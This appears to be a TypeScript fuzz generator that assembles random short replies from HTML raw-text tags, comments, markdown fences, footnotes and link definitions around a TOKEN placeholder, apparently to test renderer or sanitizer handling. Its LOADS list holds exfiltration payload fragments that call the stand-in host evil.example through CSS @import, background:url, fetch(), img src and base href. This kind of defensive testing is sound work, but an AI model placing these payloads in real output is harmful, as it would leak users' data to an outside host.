import type { Random } from './random.js'

/**
 * Replies of few lines in which tokens stand close together, among what is text to one renderer and none to another: raw text
 * and where it is cut off, comments, fences in lists and quotations, footnotes, definitions before and behind their use.
 */

const RAW = words`script style textarea title iframe noscript noembed noframes xmp plaintext svg math template select pre
  code kbd SCRIPT Style object`
const ENDS = ['>', '>', '>', '>', '', '\n', ' ', '/>', ' >', '\n>', '<', ' x>', ' x="', " x='", ' x=', '\\>', '&gt;']
const COMMENTS = ['<!--', '-->', '<!-->', '<!--->', '--!>', '<!-', '--', '<!x', '<!X>', '<![CDATA[', ']]>', '<?', '?>', '<?x', '<?php', '</', '</>', '<!>', '<\\!--', '\\-->'] // prettier-ignore
const STARTS = ['', '', '', '', '', '> ', '>', '- ', '1. ', '  ', '    ', '\t', '- - ', '> - ', '- > ', '* ', '#  ', '| ', '10) ', '     ', '> > ', '- [ ] ', '\u200b', '\u00a0'] // prettier-ignore
const FENCES = ['```', '~~~', '````', '```html', '``` ', '~~~~', '```js `', '   ```', '    ```', '``', '$$', '    ']
const NOTES = ['[^n]: ', '[^n]:', '[^n]:\n', '[^n]:\n    ', '[^N]: ', '[^n\\]]: ', '[^TOKEN]: ', '[^m]: ', '[^n]:\t', '![^n]', '[^n]', '[^n]', '[^N]', '[^m]', '[^n\\]]', '^[', '[^n] : '] // prettier-ignore
const LABELS = ['a', 'a', 'A', 'b', 'TOKEN', 'x y', 'a\\]', 'a\nb']
const TITLES = ['"?"', "'?'", '(?)', '"\n?"', '"b\n\n?"', '"\\"?"', "'\\'?'", '(\\)?)', '"?', '&quot;?"', '“?”', '"b" "?"', '\n"?"', '\n  (?)', '\n> "?"', "\\\ny '?'", '<"?"'] // prettier-ignore
const PLACES = ['x', '<x>', 'mailto:x', '#', '<>', '<a b>', '<a> b>', '<a\\> b>', '\nx', '\n  <x>', 'x\\', '/x', 'https://x.example/', '> x', '[b]:', '\n[b]:\n', '<[b]:>', 'TOKEN:'] // prettier-ignore
const LOADS = ["@import '//evil.example/?q=", '@import "//evil.example/?q=', '*{background:url(//evil.example/?q=', "*{background:u\\72l('//evil.example/?q=", "fetch('//evil.example/?q=", 'fetch(`//evil.example/?q=', "'", '"', '`', '/*', '*/', '//', '<img src="//evil.example/?q=', "<img src='//evil.example/?q=", '<img src=//evil.example/?q=', '<a href="/', '<p title="', "<p title='", '<p style="', '">', "'>", '" src="//evil.example/?q=', "' src='//evil.example/?q=", '</p>', '<b>', '</b>', '<base href="//evil.example/', '<i<n', '<n ', '&#13;', '|', '\n|-|-|\n', '![', '](x)', '](', '`'] // prettier-ignore
const BREAKS = ['\n', '\n', '\n', '\n', '\n\n', '\n\n', '\r\n', '\r', '\n \n', '\n>\n', '\u2028', '\n\u200b\n', '\\\n']
const GAPS = ['', '', '', '', ' ', ' ', '\n', 'x', '. ']
const TOKENS = ['TOKEN', 'TOKEN', 'TOKEN', 'TOKEN', 'TOKENTOKEN', 'TOKEN TOKEN', '(TOKEN)', '"TOKEN"', '**TOKEN**', '`TOKEN`', '<TOKEN', 'TOKEN>', '[TOKEN]', 'x TOKEN x', '[**NAME_8F3A21C4**]', '[NAME_\n8F3A21C4]', '{NAME_8F3A21C4}', "'TOKEN'", 'TOKEN:', 'TOKEN/'] // prettier-ignore

type Piece = (random: Random) => string

const PIECES: readonly Piece[] = [
  (random) => random.pick(TOKENS),
  (random) => random.pick(TOKENS),
  (random) => random.pick(TOKENS),
  (random) => `<${random.pick(RAW)}${random.pick(ENDS)}`,
  (random) => `<${random.pick(RAW)}${random.pick(ENDS)}`,
  (random) => `</${random.pick(RAW)}${random.pick(ENDS)}`,
  (random) => cut(`<${random.pick(RAW)}${random.pick(ENDS)}`, random),
  (random) => random.pick(COMMENTS),
  (random) => random.pick(LOADS),
  (random) => random.pick(LOADS),
  (random) => `\n${random.pick(STARTS)}${random.pick(FENCES)}\n`,
  (random) => `\n${random.pick(STARTS)}${random.pick(NOTES)}`,
  (random) => random.pick(NOTES),
  definition,
  (random) => `${random.pick(['', '!', '\\'])}[${random.pick(LABELS)}]${random.pick(['', '', '[]', '[a]', '(x)'])}`,
]

export function denseReply(random: Random): string {
  let text = ''
  for (let lines = 1 + random.below(6); lines > 0; lines--) {
    text += random.pick(STARTS)
    for (let count = 1 + random.below(4); count > 0; count--) text += random.pick(PIECES)(random) + random.pick(GAPS)
    text += random.pick(BREAKS)
  }
  if (random.below(3) === 0) text += `<${random.pick(RAW)}${random.pick(ENDS)}`
  return text.includes('TOKEN') ? text : `TOKEN ${text}TOKEN`
}

// --- Internal helpers ---

/** One with a token in its title, and often a use of its label in raw text. */
function definition(random: Random): string {
  const label = random.pick(LABELS)
  const title = random.pick(TITLES).replace('?', random.pick(TOKENS))
  const text = `\n${random.pick(STARTS)}[${label}]:${random.pick(GAPS)}${random.pick(PLACES)}${random.pick([' ', ' ', '\n', ''])}${title}\n`
  if (random.below(2) === 0) return text
  const use = `x <${random.pick(RAW)}>${random.pick(LOADS)}${random.pick(['', '!'])}[${label}]`
  return random.below(4) === 0 ? `${use}\n${text}` : `${text}\n${use}`
}

/** A tag that the text leaves in the middle. */
function cut(tag: string, random: Random): string {
  return tag.slice(0, 1 + random.below(tag.length))
}

function words(strings: TemplateStringsArray): readonly string[] {
  return strings.raw.join('').trim().split(/\s+/)
}
